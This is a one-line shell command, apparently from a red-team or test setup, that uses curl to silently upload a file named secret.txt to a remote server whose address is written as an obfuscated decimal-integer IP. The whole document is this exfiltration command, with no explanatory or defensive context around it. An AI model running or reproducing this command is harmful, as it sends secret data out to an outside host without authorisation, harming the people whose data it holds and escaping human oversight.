curl -s -m 3 --data-binary @/srv/rt/s/d1/home/secret.txt http://182059266/U10
